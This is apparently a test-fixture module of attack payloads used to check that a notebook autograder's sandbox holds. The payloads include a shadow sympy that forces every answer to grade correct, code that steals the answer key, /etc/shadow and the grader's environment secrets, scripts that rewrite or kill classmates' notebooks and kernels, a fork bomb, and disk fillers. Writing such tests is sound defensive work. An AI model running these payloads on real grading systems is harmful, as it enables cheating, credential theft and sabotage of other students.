"""Attacks on the grader shared by tests/test_grade_trust.py and tests/test_nbgrader.py."""

#: a ``sympy.py`` put beside a learner's notebook: the setup cell's ``import sympy`` loads it; it loads the real
#: sympy and patches the checker to call every answer correct
SHADOW_SYMPY = """
import os, sys
here = os.path.dirname(os.path.abspath(__file__))
sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != here]
del sys.modules["sympy"]
import sympy as _real
sys.modules["sympy"] = _real
import course_lib.checks.question as _q
_q.Question.evaluate = lambda self, a, strict=False, **k: self._result("correct", "", strict)
"""

# --- Attacks on the grading machine and on classmates (issue 32; tests/test_grade_sandbox.py) -----------------
# Each is the source of an answer cell of the demo exercise (tests/fixtures/exercises/00_demo.ipynb); ``T`` is a
# dict of the targets, put into the source as a literal: {"key": the answer key's file, "gradebook": ..., "bob":
# another student's submission, "csv": the class's grades.csv, "grader": the grader's pid, "sentinel": the pid of
# a classmate's process, "port": a TCP port on 127.0.0.1 (a local Jupyter server), "secret": the name of an
# environment variable of the grader's}.

#: Reads the key, the gradebook, another submission, /etc/shadow, the grader's environment (its own and via /proc),
#: rewrites another submission and grades.csv, kills a classmate's process, connects to 127.0.0.1; then raises
#: with everything it got, so that it lands in the notebook's own feedback (the problem's message).
STEAL = r'''
import glob, json, os, re, signal, socket, sys
T = {targets!r}
got = {{}}
def grab(p):
    try:
        with open(p, "rb") as f:
            return f.read(20000).decode("utf-8", "replace")
    except Exception:
        return None
cands = [T["key"]] + [os.path.join(e or ".", "course_lib", "checks", "_demo.py") for e in sys.path]
for e in sys.path:  # the editable install's finder names the course's source folder
    for f in glob.glob(os.path.join(e or ".", "__editable__*finder.py")):
        m = re.search(r"'course_lib': '([^']+)'", grab(f) or "")
        if m:
            cands.append(os.path.join(m.group(1), "checks", "_demo.py"))
for c in cands:
    text = grab(c)
    if text and "expected=" in text:
        got["key"] = re.findall(r'expected="([^"]+)"', text)
for name in ("gradebook", "bob", "csv", "shadow"):  # shadow: a file of root's (the grader may run as root)
    text = grab(T.get(name, "/etc/shadow"))
    if text:
        got[name] = text[:300]
for name, data in (("bob", "{{}}"), ("csv", "mallory,100\n")):
    try:
        with open(T[name], "a" if name == "csv" else "w") as f:
            f.write(data)
        got[name + "-written"] = True
    except Exception:
        pass
got["env"] = {{k: v for k, v in os.environ.items() if k == T["secret"]}}
for pid in [str(T["grader"])] + [p for p in os.listdir("/proc") if p.isdigit()]:
    text = grab(f"/proc/{{pid}}/environ")
    if text and T["secret"] in text:
        got["proc"] = text[:300]
try:
    os.kill(T["sentinel"], signal.SIGKILL)
    got["killed"] = True
except Exception:
    pass
try:
    socket.create_connection(("127.0.0.1", T["port"]), timeout=2).sendall(b"POST /api/kernels")
    got["net"] = True
except Exception:
    pass
raise RuntimeError("LEAK " + json.dumps(got))
'''

#: The same from the fresh interpreter that runs a function answer: it raises what it read (the feedback).
STEAL_IN_FUNCTION = r'''
def kv_cache_bytes(layers, kv_heads, head_dim, tokens, bytes_per_element=2):
    import os
    try:
        key = open({key!r}).read()[:2000]
    except Exception as exc:
        key = ""
    raise ValueError("LEAK " + repr(dict(os.environ)) + key)
q.q4.check(kv_cache_bytes)
'''

#: A Decimal whose str is not a number: the grader's from_plain raises decimal.InvalidOperation.
BAD_DECIMAL = '''
import decimal
class Sneaky(decimal.Decimal):
    def __str__(self):
        return "abc"
step_ms = Sneaky("1.5")
q.q2.check(step_ms)
'''

#: A hook (through exec, unseen by the static scan) that forges every later exported answer: deeply nested,
#: of unknown kinds, not JSON the grader expects.
FORGE_EXPORT = '''
exec("""
import course_lib.checks.answers as A
from IPython.display import display
def forged(set_name, question, get, **kw):
    deep = []
    for _ in range(300):
        deep = [deep]
    display({A.ANSWER_MIME: {"set": set_name, "question": question, "answer": {"opaque": [None, {}, "x"]}},
             "text/plain": "forged"}, raw=True)
    display({A.ANSWER_MIME: {"set": set_name, "question": question, "answer": {"list": deep}},
             "text/plain": "forged"}, raw=True)
A.export_answer = forged
""")
bottleneck = "memory bandwidth"
q.q5.check(bottleneck)
'''

#: A function answer whose interpreter writes the result marker and deeply nested JSON, then exits.
NESTED_RESULT = r'''
def kv_cache_bytes(layers, kv_heads, head_dim, tokens, bytes_per_element=2):
    import os, sys
    if "ipykernel" in sys.modules:  # the kernel's own check calls it too: only the grader's interpreter
        return 0
    sys.stdout.write("\n@@course-result@@" + "[" * 100000 + "\n")
    sys.stdout.flush()
    os._exit(0)
q.q4.check(kv_cache_bytes)
'''

#: Output that skipped the caps: display metadata of ~1 MB per message, and outputs under the check-record MIME key.
METADATA_FLOOD = '''
from IPython.display import display
while True:
    display({"text/plain": "x"}, metadata={"junk": "m" * 1000000}, raw=True)
'''
RECORD_FLOOD = '''
from IPython.display import display
for i in range(12):
    display({"application/vnd.course.check+json": {"set": "_demo", "question": "q1", "status": "received",
             "junk": "r" * 1000000}, "text/plain": "r"}, raw=True)
'''

#: Harms classmates graded at the same time (-j 2): kills every other Jupyter kernel it can see and rewrites
#: the notebook and key-less course of every other grading folder it finds through /proc.
KILL_SIBLINGS = r'''
import os, signal
me, hits = os.getpid(), []
for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
    try:
        cmd = open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\0", b" ").decode()
        cwd = os.readlink(f"/proc/{pid}/cwd")
    except Exception:
        continue
    if "ipykernel" in cmd or "course-grade-" in cwd:
        for name in os.listdir(cwd) if "course-grade-" in cwd else ():
            if name.endswith(".ipynb"):
                try:
                    open(os.path.join(cwd, name), "w").write("{}")
                    hits.append("rewrote " + name)
                except Exception:
                    pass
        try:
            os.kill(int(pid), signal.SIGKILL)
            hits.append("killed " + pid)
        except Exception:
            pass
print("HITS", hits)
'''

# --- Attacks on the grading machine's process table and disk (issue 32, second round) -------------------------

#: A shell fork bomb in the background, its parent waiting: without a bound, it takes every process slot of the
#: machine (the grader's and classmates' forks fail).
FORK_BOMB = '''
import subprocess, time
subprocess.Popen(["/bin/sh", "-c", "b() { b | b & }; b"])
time.sleep(60)
'''

#: Fills the grading disk with 1 MiB files, in /tmp (by absolute path) and then in its folder, until stopped.
DISK_FILLER = '''
import itertools, os
for i in itertools.count():
    folder = "/tmp/fill" if i < 32 else "fill"
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(folder, str(i)), "wb") as f:
        f.write(b"x" * (1 << 20))
'''

#: Fills the grading folder with empty files (inodes, and the time a size watch takes to count them).
FILE_FILLER = '''
import itertools, os
os.makedirs("many", exist_ok=True)
for i in itertools.count():
    open(os.path.join("many", str(i)), "wb").close()
'''
